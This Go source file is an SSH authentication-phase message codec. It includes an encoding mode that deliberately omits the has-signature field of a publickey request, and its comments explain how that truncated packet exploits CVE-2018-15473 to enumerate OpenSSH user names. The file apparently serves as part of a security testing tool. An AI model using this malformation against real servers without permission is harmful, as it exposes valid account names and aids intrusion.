package wire

import "fmt"

// SSH message numbers used during transport setup and authentication
// (RFC 4253 section 12, RFC 4252 section 6).
const (
	MsgDisconnect      = 1
	MsgIgnore          = 2
	MsgUnimplemented   = 3
	MsgDebug           = 4
	MsgServiceRequest  = 5
	MsgServiceAccept   = 6
	MsgKexInit         = 20
	MsgNewKeys         = 21
	MsgKexECDHInit     = 30
	MsgKexECDHReply    = 31
	MsgUserauthRequest = 50
	MsgUserauthFailure = 51
	MsgUserauthSuccess = 52
	MsgUserauthBanner  = 53
)

// Well-known service and method names.
const (
	ServiceUserAuth   = "ssh-userauth"
	ServiceConnection = "ssh-connection"
	MethodPublickey   = "publickey"
)

// EncodingMode selects how a publickey USERAUTH_REQUEST is encoded.
//
// EDUCATIONAL: The CVE-2018-15473 Malformation
//
// A conformant publickey authentication request looks like:
//
//	byte      SSH_MSG_USERAUTH_REQUEST
//	string    user name
//	string    service name ("ssh-connection")
//	string    method name ("publickey")
//	boolean   has-signature        <-- the field we omit
//	string    public key algorithm
//	string    public key blob
//	[string   signature, only when has-signature is true]
//
// OpenSSH through 7.7 validates the user name before it has consumed
// the whole packet. When the has-signature boolean is missing
// entirely (not merely false), a server that knows the user attempts
// the full parse and dies on the truncated packet, while a server
// that does not know the user bails out early with an ordinary
// USERAUTH_FAILURE. Encoding the boolean as false would not trigger
// the bug: the packet must be syntactically truncated.
//
// StrictEncoding is the default everywhere. OmitSignatureFlag is
// honored only by UserauthRequest.Marshal, so no other code path can
// produce a malformed message by accident.
type EncodingMode int

const (
	// StrictEncoding produces the conformant wire layout.
	StrictEncoding EncodingMode = iota

	// OmitSignatureFlag drops the trailing has-signature boolean
	// from the encoded payload entirely.
	OmitSignatureFlag
)

// Message is a decoded authentication-phase protocol message.
type Message interface {
	// MessageType returns the SSH message number.
	MessageType() byte
}

// Disconnect is SSH_MSG_DISCONNECT. Servers send it before tearing
// down the connection; the reason code is from RFC 4253 section 11.1.
type Disconnect struct {
	ReasonCode  uint32
	Description string
	Language    string
}

func (*Disconnect) MessageType() byte { return MsgDisconnect }

// Marshal encodes the message payload.
func (m *Disconnect) Marshal() []byte {
	b := NewBuffer()
	b.PutByte(MsgDisconnect)
	b.PutUint32(m.ReasonCode)
	b.PutText(m.Description)
	b.PutText(m.Language)
	return b.Bytes()
}

// Ignore is SSH_MSG_IGNORE, a no-op either side may send at any time.
type Ignore struct {
	Data []byte
}

func (*Ignore) MessageType() byte { return MsgIgnore }

// Unimplemented is SSH_MSG_UNIMPLEMENTED, referencing the sequence
// number of a message the peer did not understand.
type Unimplemented struct {
	Sequence uint32
}

func (*Unimplemented) MessageType() byte { return MsgUnimplemented }

// Debug is SSH_MSG_DEBUG.
type Debug struct {
	AlwaysDisplay bool
	Message       string
	Language      string
}

func (*Debug) MessageType() byte { return MsgDebug }

// ServiceRequest is SSH_MSG_SERVICE_REQUEST, sent by the client after
// key exchange to enter the authentication protocol.
type ServiceRequest struct {
	Service string
}

func (*ServiceRequest) MessageType() byte { return MsgServiceRequest }

// Marshal encodes the message payload.
func (m *ServiceRequest) Marshal() []byte {
	b := NewBuffer()
	b.PutByte(MsgServiceRequest)
	b.PutText(m.Service)
	return b.Bytes()
}

// ServiceAccept is SSH_MSG_SERVICE_ACCEPT.
type ServiceAccept struct {
	Service string
}

func (*ServiceAccept) MessageType() byte { return MsgServiceAccept }

// Marshal encodes the message payload.
func (m *ServiceAccept) Marshal() []byte {
	b := NewBuffer()
	b.PutByte(MsgServiceAccept)
	b.PutText(m.Service)
	return b.Bytes()
}

// UserauthRequest is a publickey-method SSH_MSG_USERAUTH_REQUEST. No
// signature field is modeled: this tool never completes an
// authentication, so HasSignature is always encoded false (or, in
// OmitSignatureFlag mode, not encoded at all).
type UserauthRequest struct {
	Username     string
	Service      string
	Method       string
	Algorithm    string
	KeyBlob      []byte
	HasSignature bool
}

func (*UserauthRequest) MessageType() byte { return MsgUserauthRequest }

// Marshal encodes the request under the given mode. OmitSignatureFlag
// yields a payload exactly one byte shorter than StrictEncoding.
func (m *UserauthRequest) Marshal(mode EncodingMode) []byte {
	b := NewBuffer()
	b.PutByte(MsgUserauthRequest)
	b.PutText(m.Username)
	b.PutText(m.Service)
	b.PutText(m.Method)
	if mode == StrictEncoding {
		b.PutBool(m.HasSignature)
	}
	b.PutText(m.Algorithm)
	b.PutString(m.KeyBlob)
	return b.Bytes()
}

// UserauthFailure is SSH_MSG_USERAUTH_FAILURE, listing the methods
// that can continue.
type UserauthFailure struct {
	Methods        []string
	PartialSuccess bool
}

func (*UserauthFailure) MessageType() byte { return MsgUserauthFailure }

// Marshal encodes the message payload.
func (m *UserauthFailure) Marshal() []byte {
	b := NewBuffer()
	b.PutByte(MsgUserauthFailure)
	b.PutNameList(m.Methods)
	b.PutBool(m.PartialSuccess)
	return b.Bytes()
}

// UserauthSuccess is SSH_MSG_USERAUTH_SUCCESS.
type UserauthSuccess struct{}

func (*UserauthSuccess) MessageType() byte { return MsgUserauthSuccess }

// Marshal encodes the message payload.
func (m *UserauthSuccess) Marshal() []byte {
	return []byte{MsgUserauthSuccess}
}

// UserauthBanner is SSH_MSG_USERAUTH_BANNER, a free-form text banner
// the server may send any time during authentication.
type UserauthBanner struct {
	Message  string
	Language string
}

func (*UserauthBanner) MessageType() byte { return MsgUserauthBanner }

// Decode parses one authentication-phase message payload. It fails
// with an error wrapping ErrMalformedMessage when the message number
// is not recognized or a field is truncated.
//
// Note the asymmetry with Marshal: USERAUTH_REQUEST is not decoded
// here. Only clients produce it, and this codec sits on the client
// side of the exchange.
func Decode(payload []byte) (Message, error) {
	if len(payload) == 0 {
		return nil, fmt.Errorf("%w: empty payload", ErrMalformedMessage)
	}

	r := NewReader(payload[1:])
	var msg Message

	switch payload[0] {
	case MsgDisconnect:
		msg = &Disconnect{
			ReasonCode:  r.Uint32(),
			Description: r.Text(),
			Language:    r.Text(),
		}
	case MsgIgnore:
		msg = &Ignore{Data: r.String()}
	case MsgUnimplemented:
		msg = &Unimplemented{Sequence: r.Uint32()}
	case MsgDebug:
		msg = &Debug{
			AlwaysDisplay: r.Bool(),
			Message:       r.Text(),
			Language:      r.Text(),
		}
	case MsgServiceRequest:
		msg = &ServiceRequest{Service: r.Text()}
	case MsgServiceAccept:
		msg = &ServiceAccept{Service: r.Text()}
	case MsgUserauthFailure:
		msg = &UserauthFailure{
			Methods:        r.NameList(),
			PartialSuccess: r.Bool(),
		}
	case MsgUserauthSuccess:
		msg = &UserauthSuccess{}
	case MsgUserauthBanner:
		msg = &UserauthBanner{
			Message:  r.Text(),
			Language: r.Text(),
		}
	default:
		return nil, fmt.Errorf("%w: unknown message number %d",
			ErrMalformedMessage, payload[0])
	}

	if err := r.Err(); err != nil {
		return nil, fmt.Errorf("decoding message %d: %w", payload[0], err)
	}
	return msg, nil
}
